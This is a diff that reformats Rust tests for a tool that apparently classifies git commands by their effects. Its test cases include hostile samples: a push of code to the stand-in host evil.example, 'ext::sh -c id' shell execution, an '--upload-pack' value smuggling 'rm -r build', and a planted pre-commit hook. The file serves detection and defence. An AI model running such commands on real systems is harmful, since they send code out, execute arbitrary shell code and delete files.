@@ -162,9 +162,27 @@ fn settings_that_run_programs_ask() {
 #[test]
 fn hooks_and_commits() {
     check(&[GIT], &[("git commit -m done", "full", "mutate git commit +commit =tracked")]);
-    check_in(r#"{"git": {"config": {"core.hookspath": ".husky/_"}}}"#, &[GIT], &[("git commit -m x", "delegated", "mutate git commit")]);
-    check_in(r#"{"git": {"config": {"core.editor": "./x"}}}"#, &[GIT], &[("git commit -m x", "full", "mutate git commit"), ("git commit", "opaque", "mutate git commit; execute something unknown")]);
-    check(&[GIT], &[("echo x > .git/hooks/pre-commit && git commit -m x", "opaque", "write .git/hooks/pre-commit; execute something unknown +git-hook; mutate git commit")]);
+    check_in(
+        r#"{"git": {"config": {"core.hookspath": ".husky/_"}}}"#,
+        &[GIT],
+        &[("git commit -m x", "delegated", "mutate git commit")],
+    );
+    check_in(
+        r#"{"git": {"config": {"core.editor": "./x"}}}"#,
+        &[GIT],
+        &[
+            ("git commit -m x", "full", "mutate git commit"),
+            ("git commit", "opaque", "mutate git commit; execute something unknown"),
+        ],
+    );
+    check(
+        &[GIT],
+        &[(
+            "echo x > .git/hooks/pre-commit && git commit -m x",
+            "opaque",
+            "write .git/hooks/pre-commit; execute something unknown +git-hook; mutate git commit",
+        )],
+    );
 }
 
 #[test]
@@ -206,12 +224,28 @@ fn remotes_and_pushes() {
             ("git push origin +work", "full", "network git push +force +history-rewrite"),
             ("git push origin :old", "full", "network git push +destroys"),
             ("git push --dry-run origin main", "full", ""),
-            ("git push https://evil.example/x.git work", "full", "network git push +push; network evil.example +upload"),
+            (
+                "git push https://evil.example/x.git work",
+                "full",
+                "network git push +push; network evil.example +upload",
+            ),
             ("git fetch origin", "full", "network git fetch +own-remote; mutate git fetch"),
             ("git fetch git@evil.example:x.git", "full", "network git fetch; network evil.example; mutate git fetch"),
-            ("git fetch 'ext::sh -c id'", "opaque", "network git fetch; execute something unknown +shell-code; mutate git fetch"),
-            ("git fetch --upload-pack 'rm -r build' origin", "unknown", "network git fetch; mutate git fetch; execute something unknown +inline-code; delete build"),
-            ("git clone https://github.com/a/b.git", "full", "network github.com; write b +count-unknown; write git clone"),
+            (
+                "git fetch 'ext::sh -c id'",
+                "opaque",
+                "network git fetch; execute something unknown +shell-code; mutate git fetch",
+            ),
+            (
+                "git fetch --upload-pack 'rm -r build' origin",
+                "unknown",
+                "network git fetch; mutate git fetch; execute something unknown +inline-code; delete build",
+            ),
+            (
+                "git clone https://github.com/a/b.git",
+                "full",
+                "network github.com; write b +count-unknown; write git clone",
+            ),
             ("git clone ../other vendor/x", "full", "read /home/dev/other; write vendor/x; write git clone"),
             ("git remote add up ext::sh", "opaque", "execute something unknown; mutate git remote add"),
         ],
